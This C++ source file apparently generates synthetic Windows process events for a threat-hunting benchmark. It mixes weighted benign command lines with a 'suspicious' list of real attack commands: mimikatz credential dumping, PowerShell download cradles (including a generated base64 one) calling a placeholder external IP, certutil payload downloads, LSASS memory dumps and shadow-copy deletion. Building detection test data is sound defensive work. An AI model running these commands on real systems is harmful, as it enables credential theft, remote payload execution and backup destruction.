#include "process_catalog.h"

#include <vector>

namespace huntbook::bench {
namespace {

struct ProcessTemplate {
  std::string_view image;
  std::string_view parent;
  std::string_view command;
  double weight;
};

constexpr std::string_view kExplorer = R"(C:\Windows\explorer.exe)";
constexpr std::string_view kCmd = R"(C:\Windows\System32\cmd.exe)";
constexpr std::string_view kPowerShell =
    R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";
constexpr std::string_view kServices = R"(C:\Windows\System32\services.exe)";
constexpr std::string_view kSvchost = R"(C:\Windows\System32\svchost.exe)";
constexpr std::string_view kWord = R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)";
constexpr std::string_view kExcel = R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)";
constexpr std::string_view kChrome = R"(C:\Program Files\Google\Chrome\Application\chrome.exe)";
constexpr std::string_view kEdge =
    R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)";

const std::vector<ProcessTemplate> kUserProcesses = {
    {kChrome, kExplorer,
     R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={n})",
     22},
    {kChrome, kExplorer,
     R"("C:\Program Files\Google\Chrome\Application\chrome.exe" https://portal.contoso.com/tickets/{n})",
     4},
    {kEdge, kExplorer,
     R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://sharepoint.contoso.com/sites/team{n})",
     6},
    {kWord, kExplorer,
     R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\Report-{n}.docx")",
     5},
    {kExcel, kExplorer,
     R"("C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{user}\Documents\Budget {n}.xlsx")",
     4},
    {R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", kExplorer,
     R"("C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle)", 3},
    {kCmd, kExplorer, R"("C:\Windows\system32\cmd.exe" /c dir C:\Users\{user}\Documents)", 3},
    {R"(C:\Windows\System32\conhost.exe)", kCmd,
     R"(\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1)", 6},
    {kPowerShell, kExplorer,
     R"(powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1 -Computer {host})",
     2},
    {kPowerShell, kCmd,
     R"(powershell.exe -c "Invoke-WebRequest -Uri https://updates.contoso.com/defs/{n}.zip -OutFile C:\Temp\defs.zip")",
     1},
    {R"(C:\Windows\System32\whoami.exe)", kCmd, R"(whoami /all)", 0.5},
    {R"(C:\Windows\System32\net.exe)", kCmd, R"(net use Z: \\SRV-FILE01\share{n})", 1},
    {R"(C:\Windows\System32\reg.exe)", kCmd,
     R"(reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run)", 0.5},
    {R"(C:\Windows\System32\ipconfig.exe)", kCmd, R"(ipconfig /all)", 0.5},
    {R"(C:\Program Files\Git\cmd\git.exe)", kCmd,
     R"("C:\Program Files\Git\cmd\git.exe" fetch origin --prune)", 1},
    {R"(C:\Python312\python.exe)", kCmd, R"(python.exe C:\Users\{user}\src\etl_{n}.py --since 7d)",
     1},
    {R"(C:\Windows\System32\notepad.exe)", kExplorer,
     R"("C:\Windows\system32\notepad.exe" C:\Users\{user}\Desktop\notes{n}.txt)", 1},
    {R"(C:\Windows\System32\msiexec.exe)", kExplorer,
     R"(C:\Windows\system32\msiexec.exe /i https://updates.contoso.com/agent/{n}.msi /qn)", 0.3},
    {R"(C:\Program Files\SecTools\nomimikatz_check.exe)", kCmd,
     R"("C:\Program Files\SecTools\nomimikatz_check.exe" --scan C:\Users\{user})", 0.002},
    {R"(C:\Program Files\Contoso\Agent\agent.exe)", kServices,
     R"("C:\Program Files\Contoso\Agent\agent.exe" --clear-urlcache --profile {user})", 0.002},
};

const std::vector<ProcessTemplate> kSystemProcesses = {
    {kSvchost, kServices, R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)", 8},
    {kSvchost, kServices,
     R"(C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog)", 4},
    {kSvchost, kServices, R"(C:\Windows\System32\svchost.exe -k wsappx -p -s AppXSvc)", 3},
    {R"(C:\Windows\System32\wbem\WmiPrvSE.exe)", kSvchost,
     R"(C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding)", 5},
    {R"(C:\Windows\System32\taskhostw.exe)", kSvchost,
     R"(taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly)", 4},
    {R"(C:\Windows\System32\SearchProtocolHost.exe)", R"(C:\Windows\System32\SearchIndexer.exe)",
     R"("C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search")",
     4},
    {R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0\MpCmdRun.exe)", kSvchost,
     R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate)",
     2},
    {R"(C:\Windows\System32\rundll32.exe)", kSvchost,
     R"(C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding)",
     1},
    {R"(C:\Windows\System32\sc.exe)", kCmd, R"(sc.exe query type= service state= all)", 0.5},
    {R"(C:\Windows\System32\schtasks.exe)", kSvchost, R"(schtasks.exe /query /fo LIST /v)", 0.5},
    {R"(C:\Windows\System32\gpupdate.exe)", kSvchost, R"(gpupdate.exe /target:computer /force)", 1},
};

const std::vector<ProcessTemplate> kServiceProcesses = {
    {R"(C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe)",
     kServices,
     R"("C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER)",
     3},
    {R"(C:\Program Files\Veeam\Backup\VeeamAgent.exe)", kServices,
     R"("C:\Program Files\Veeam\Backup\VeeamAgent.exe" -l {n} -r {host})", 2},
    {kPowerShell, R"(C:\Windows\System32\taskeng.exe)",
     R"(powershell.exe -NonInteractive -File D:\Jobs\rotate_logs.ps1 -Days {n})", 2},
    {R"(C:\Windows\System32\inetsrv\w3wp.exe)", kSvchost,
     R"(c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll")",
     2},
    {R"(C:\Windows\CCM\CcmExec.exe)", kServices, R"(C:\Windows\CCM\CcmExec.exe)", 1},
};

const std::vector<ProcessTemplate> kSuspiciousProcesses = {
    {R"(C:\Users\Public\mimikatz.exe)", kCmd,
     R"(mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit)", 1},
    {kPowerShell, kCmd,
     R"(powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds")",
     1},
    {kPowerShell, kWord, R"(powershell.exe -NoP -NonI -W Hidden -Enc {b64})", 1.5},
    {kPowerShell, kCmd, R"(powershell.exe -EncodedCommand {b64})", 1},
    {R"(C:\Windows\System32\certutil.exe)", kCmd,
     R"(certutil.exe -urlcache -split -f http://{ip}/payload{n}.exe C:\Users\Public\svc.exe)", 1.5},
    {R"(C:\Windows\System32\certutil.exe)", kCmd,
     R"("C:\Windows\System32\certutil.exe" -URLCache -f https://{ip}/tools/nc.exe nc.exe)", 1},
    {R"(C:\Windows\System32\rundll32.exe)", kCmd,
     R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Windows\Temp\lsass.dmp full)",
     1},
    {R"(C:\Windows\System32\vssadmin.exe)", kCmd, R"(vssadmin.exe delete shadows /all /quiet)",
     0.5},
    {R"(C:\Windows\System32\regsvr32.exe)", kExcel,
     R"(regsvr32.exe /s /n /u /i:http://{ip}/file.sct scrobj.dll)", 0.5},
    {R"(C:\Users\Public\procdump64.exe)", kCmd,
     R"(procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp)", 0.5},
};

struct ContextCatalog {
  const std::vector<ProcessTemplate>* templates;
  WeightedChoice choice;
};

std::vector<double> Weights(const std::vector<ProcessTemplate>& templates) {
  std::vector<double> weights;
  for (const ProcessTemplate& t : templates) weights.push_back(t.weight);
  return weights;
}

const ContextCatalog& CatalogFor(ProcessContext context) {
  static const ContextCatalog catalogs[] = {
      {&kUserProcesses, WeightedChoice(Weights(kUserProcesses))},
      {&kSystemProcesses, WeightedChoice(Weights(kSystemProcesses))},
      {&kServiceProcesses, WeightedChoice(Weights(kServiceProcesses))},
      {&kSuspiciousProcesses, WeightedChoice(Weights(kSuspiciousProcesses))},
  };
  return catalogs[static_cast<int>(context)];
}

void Expand(std::string_view command, const ProcessVariables& variables, RandomSource& random,
            std::string* out) {
  out->clear();
  size_t position = 0;
  while (position < command.size()) {
    const size_t open = command.find('{', position);
    const size_t close = open == std::string_view::npos ? open : command.find('}', open);
    if (close == std::string_view::npos) {
      out->append(command.substr(position));
      break;
    }
    out->append(command.substr(position, open - position));
    const std::string_view key = command.substr(open + 1, close - open - 1);
    if (key == "user") {
      out->append(variables.user);
    } else if (key == "host") {
      out->append(variables.host);
    } else if (key == "n") {
      out->append(std::to_string(1 + random.Below(random.Chance(0.8) ? 60 : 5000)));
    } else if (key == "ip") {
      out->append(variables.external_ip);
    } else if (key == "b64") {
      std::string cradle = "IEX (New-Object Net.WebClient).DownloadString('http://";
      cradle.append(variables.external_ip);
      cradle.append("/stage");
      cradle.append(std::to_string(random.Below(8)));
      cradle.append(".ps1')");
      out->append(ProcessCatalog::Utf16LeBase64(cradle));
    } else {
      out->append(command.substr(open, close - open + 1));  // Not a placeholder (a GUID).
    }
    position = close + 1;
  }
}

}  // namespace

ProcessCatalog::ProcessCatalog() { CatalogFor(ProcessContext::kUser); }

void ProcessCatalog::Sample(ProcessContext context, const ProcessVariables& variables,
                            RandomSource& random, ProcessLaunch* launch) const {
  const ContextCatalog& catalog = CatalogFor(context);
  const ProcessTemplate& chosen = (*catalog.templates)[catalog.choice.Sample(random)];
  launch->image.assign(chosen.image);
  launch->parent_image.assign(chosen.parent);
  Expand(chosen.command, variables, random, &launch->command_line);
}

std::string_view ProcessCatalog::BaseName(std::string_view path) {
  const size_t slash = path.find_last_of('\\');
  return slash == std::string_view::npos ? path : path.substr(slash + 1);
}

std::string ProcessCatalog::Utf16LeBase64(std::string_view text) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string bytes;
  for (char c : text) {  // ASCII input: the high byte of each UTF-16 unit is zero.
    bytes.push_back(c);
    bytes.push_back('\0');
  }
  std::string encoded;
  for (size_t i = 0; i < bytes.size(); i += 3) {
    const size_t available = bytes.size() - i;
    uint32_t group = static_cast<uint32_t>(static_cast<unsigned char>(bytes[i])) << 16;
    if (available > 1)
      group |= static_cast<uint32_t>(static_cast<unsigned char>(bytes[i + 1])) << 8;
    if (available > 2) group |= static_cast<unsigned char>(bytes[i + 2]);
    encoded.push_back(kAlphabet[(group >> 18) & 63]);
    encoded.push_back(kAlphabet[(group >> 12) & 63]);
    encoded.push_back(available > 1 ? kAlphabet[(group >> 6) & 63] : '=');
    encoded.push_back(available > 2 ? kAlphabet[group & 63] : '=');
  }
  return encoded;
}

}  // namespace huntbook::bench
